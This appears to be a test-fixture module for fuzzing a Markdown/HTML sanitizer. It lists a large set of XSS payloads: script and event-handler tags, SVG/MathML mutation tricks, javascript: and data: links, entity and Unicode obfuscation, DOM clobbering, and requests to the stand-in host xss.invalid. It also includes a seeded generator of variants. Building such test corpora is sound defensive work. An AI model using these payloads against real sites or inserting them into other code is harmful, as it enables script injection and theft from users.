// payloads.mjs -- what somebody may write who wants a script to run, a request to leave or a page to break.
//
// Every payload, if it works, calls __xss, opens a dialog, asks xss.invalid for something, or breaks the list of
// elements and attributes that user text may become. payloads(n) gives the written ones and, beyond them,
// as many made from them as asked for; the same ones each time.

const JS = 'javascript:__xss(1)';
const OUT = 'https://xss.invalid/p';

export const written = [
	// HTML as it is
	'<script>__xss(1)</script>', '<ScRiPt>__xss(1)</sCrIpT>', '<script\n>__xss(1)</script\t>', `<script src=${OUT}></script>`, '<scr<script>ipt>__xss(1)</scr</script>ipt>', '<script>__xss(1)//',
	'<img src=x onerror=__xss(1)>', '<img src=x:x onerror="__xss(1)">', '<img/src=x/onerror=__xss(1)>', '<img src=x onerror\n=\n__xss(1)>', `<img src=${OUT}>`, '<IMG """><SCRIPT>__xss(1)</SCRIPT>">', '<img src=\'x\' onerror=\'__xss(1)\'',
	'<svg onload=__xss(1)>', '<svg/onload=__xss(1)>', '<svg><script>__xss(1)</script></svg>', `<svg><a xlink:href="${JS}"><text y=20>x</text></a></svg>`, '<svg><animate onbegin=__xss(1) attributeName=x dur=1s>', '<svg><use href="data:image/svg+xml,<svg id=x xmlns=\'http://www.w3.org/2000/svg\'><script>__xss(1)</script></svg>#x">',
	'<math><mtext></form><form><mglyph><style></math><img src onerror=__xss(1)>', `<math href="${JS}">x</math>`, '<body onload=__xss(1)>', '<details open ontoggle=__xss(1)>x</details>', '<input autofocus onfocus=__xss(1)>', '<video><source onerror=__xss(1)>', '<audio src onerror=__xss(1)>', '<marquee onstart=__xss(1)>x</marquee>',
	`<iframe src="${JS}"></iframe>`, '<iframe srcdoc="<script>parent.__xss(1)</script>"></iframe>', `<object data="${JS}"></object>`, `<embed src="${OUT}">`, `<base href="${OUT}/">`, `<link rel=stylesheet href=${OUT}>`, `<meta http-equiv=refresh content="0;url=${OUT}">`, `<form action=${OUT}><button autofocus>x</button></form>`, `<button formaction="${JS}">x</button>`,
	'<style>@import "https://xss.invalid/p";</style>', '<p style="background:url(https://xss.invalid/p)">x</p>', '<template><script>__xss(1)</script></template>', '<noscript><p title="</noscript><img src=x onerror=__xss(1)>">', '<xmp><img src=x onerror=__xss(1)></xmp>', '<plaintext><b>x', '<!--><img src=x onerror=__xss(1)>-->', '<![CDATA[<img src=x onerror=__xss(1)>]]>', '<?xml version="1.0"?><img src=x onerror=__xss(1)>', '<a href="x" onmouseover=__xss(1) autofocus onfocus=__xss(1)>x</a>',
	// Out of where it stands
	'"><img src=x onerror=__xss(1)>', '\'><img src=x onerror=__xss(1)>', '</textarea><img src=x onerror=__xss(1)>', '</title><img src=x onerror=__xss(1)>', '</script><img src=x onerror=__xss(1)>', '</style><img src=x onerror=__xss(1)>', '--><img src=x onerror=__xss(1)>', '" autofocus onfocus="__xss(1)', '\' autofocus onfocus=\'__xss(1)', '" autofocus onfocus=__xss(1) x="', '`autofocus onfocus=__xss(1)', '\\"><img src=x onerror=__xss(1)>', '</option></select><img src=x onerror=__xss(1)>', '</svg></a></div><img src=x onerror=__xss(1)>',
	'{{__xss(1)}}', '${__xss(1)}', '%3Cimg src=x onerror=__xss(1)%3E', '\\u003cimg src=x onerror=__xss(1)\\u003e', '\\x3cscript\\x3e__xss(1)',
	// Entities
	'&lt;img src=x onerror=__xss(1)&gt;', '&#60;img src=x onerror=__xss(1)&#62;', '&#x3c;script&#x3e;__xss(1)&#x3c;/script&#x3e;', '&amp;lt;script&amp;gt;__xss(1)', '&quot;&gt;<img src=x onerror=&#95;&#95;xss(1)>', '[x](&#106;avascript:__xss(1))', '[x](java&Tab;script:__xss(1))', '[x](javascript&colon;__xss(1))', '[x](&#x0A;javascript:__xss(1))',
	// Addresses in Markdown
	`[x](${JS})`, '[x](JaVaScRiPt:__xss(1))', '[x](<javascript:__xss(1)>)', '[x]( javascript:__xss(1))', '[x](\x01javascript:__xss(1))', '[x](java\tscript:__xss(1))', '[x](vbscript:__xss(1))', '[x](data:text/html,<script>__xss(1)</script>)', '[x](data:text/html;base64,PHNjcmlwdD5fX3hzcygxKTwvc2NyaXB0Pg==)', '[x](file:///etc/passwd)', '[x](blob:https://xss.invalid/1)', '[x](//xss.invalid/p)', '[x](\\\\xss.invalid/p)', '[x](view-source:javascript:__xss(1))', '[x](feed:javascript:__xss(1))', '[x](https:javascript:__xss(1))',
	`<${JS}>`, '<data:text/html,x>', `![x](${JS})`, `![x](${OUT})`, '![x](data:image/svg+xml,<svg onload=__xss(1)>)', '![x](//xss.invalid/p)', '![x" onerror="__xss(1)](/x)', '![x](/x" onerror="__xss(1))', '[x](/x "a" onmouseover="__xss(1)")', '[x](/x \'a"onmouseover="__xss(1)\')', '[x](https://xss.invalid/"onmouseover="__xss(1))', '[x][r]\n\n[r]: javascript:__xss(1) "t"', '[x][r]\n\n[r]: </x"onmouseover="__xss(1)>', 'https://xss.invalid/"><img src=x onerror=__xss(1)>', 'https://a.example/<img/src=x/onerror=__xss(1)>', 'www.xss.invalid"onmouseover="__xss(1)', 'a@example.com"onmouseover="__xss(1)',
	// What else Markdown makes
	'```"><img src=x onerror=__xss(1)>\ncode\n```', '```js onload=__xss(1)\n</code></pre><img src=x onerror=__xss(1)>\n```', '``<img src=x onerror=__xss(1)>``', '    <img src=x onerror=__xss(1)>', '| <img src=x onerror=__xss(1)> | b |\n|:-:|--:|\n| <script>__xss(1)</script> | " onx=1 |', '- [x] <img src=x onerror=__xss(1)>\n- [ ] [x](javascript:__xss(1))', '# <img src=x onerror=__xss(1)>', '> <img src=x onerror=__xss(1)>', '[^1]\n\n[^1]: <img src=x onerror=__xss(1)>', '**<img src=x onerror=__xss(1)>**', '[<img src=x onerror=__xss(1)>](/x)', '[![x](javascript:__xss(1))](javascript:__xss(1))', '<kbd onclick=__xss(1)>x</kbd>', '<kbd><img src=x onerror=__xss(1)></kbd>', '<sub/onload=__xss(1)>x</sub>', '<details><summary>x</summary><img src=x onerror=__xss(1)></details>', '<div>\n\n[x](javascript:__xss(1))\n\n</div>', '<a href="javascript:__xss(1)">\n\n*x*', '\\<img src=x onerror=__xss(1)>', '&#92;<img src=x onerror=__xss(1)>', ':smile:<img src=x onerror=__xss(1)>',
	// Names that shadow
	'<img name=body id=main>', '<form id=act><input name=csrf value=x></form>', '<a id=__xss name=__xss href=x>x</a>', '<form name=documentElement><input name=dataset></form>', '<p id="find" class="suggest" data-suggest data-vote="1" data-copy>x</p>',
	// Characters
	'\u202e<img src=x onerror=__xss(1)>', '\ufeff<script>__xss(1)</script>', '<\u200bscript>__xss(1)</script>', '\uff1cscript\uff1e__xss(1)\uff1c/script\uff1e', '\u02bascript\u02ba', '<img src=x onerror=\u2028__xss(1)>', '<\u017fcript>__xss(1)</\u017fcript>', '<img src=x onerror\u00a0=__xss(1)>', '\u2029</script><script>__xss(1)</script>', '<img\u000csrc=x\u000conerror=__xss(1)>', '\u{1f600}<svg/onload=__xss(1)>', 'a\u0301"><img src=x onerror=__xss(1)>', '\ud7ff<b onclick=__xss(1)>',
];

// A generator of numbers that says the same each time.
function numbers(seed) {
	return () => {
		seed = (seed * 1103515245 + 12345) % 2147483648;
		return seed / 2147483648;
	};
}

const wraps = [(p) => `**${p}**`, (p) => `> ${p}`, (p) => `- ${p}`, (p) => `1. ${p}`, (p) => `# ${p}`, (p) => `| a |\n|---|\n| ${p.replaceAll('\n', ' ')} |`, (p) => `[${p}](/x)`, (p) => `[x](${p})`, (p) => `![${p}](/x)`, (p) => `<${p}>`, (p) => `[x](/x "${p}")`, (p) => `\`\`\`${p}\n${p}\n\`\`\``,
	(p) => `<kbd>${p}</kbd>`, (p) => `~~${p}~~`, (p) => `*a ${p}`, (p) => `[r]\n\n[r]: ${p}`, (p) => `- [ ] ${p}`, (p) => `<div>\n\n${p}\n\n</div>`, (p) => `<!-- -- ${p} -->`, (p) => `\\${p}`, (p) => `${p}${p}`, (p) => `https://a.example/${p}`, (p) => `<x y="${p}">`, (p) => `<x y='${p}'>`, (p) => `<x ${p}`, (p) => `[a](b\n${p})`, (p) => `\`${p}`];
const changes = [(p) => p.toUpperCase().replaceAll('__XSS', '__xss'), (p) => p.replaceAll('<', '&lt;'), (p) => p.replaceAll('<', '<\0'.slice(0, 1)), (p) => p.replaceAll(' ', '\t'), (p) => p.replaceAll(' ', '/'), (p) => p.replaceAll('"', '&quot;'), (p) => p.replaceAll('javascript', 'java\nscript'), (p) => p.replaceAll('javascript:', 'javascript&#58;'), (p) => p.replaceAll('(', '&#40;'),
	(p) => p.replaceAll('>', ''), (p) => p.replaceAll('=', ' = '), (p) => [...p].reverse().join(''), (p) => p.slice(1), (p) => p.slice(0, -1), (p) => p.replaceAll('<', '<<'), (p) => p.replaceAll('onerror', 'oNeRrOr'), (p) => p.replaceAll('x', '\u0445'), (p) => encodeURIComponent(p), (p) => p.replaceAll('<', '\u003c/p><')];

export function payloads(n) {
	const random = numbers(20261120), list = [...written], pick = (a) => a[Math.floor(random() * a.length)];
	const seen = new Set(list);
	while (list.length < n) {
		let p = pick(written);
		for (let i = 0; i <= random() * 3; i++)
			p = pick(random() < 0.6 ? wraps : changes)(p);
		if (p.trim() && p.length < 2000 && !seen.has(p)) {
			seen.add(p);
			list.push(p);
		}
	}
	return list.slice(0, Math.max(n, written.length));
}
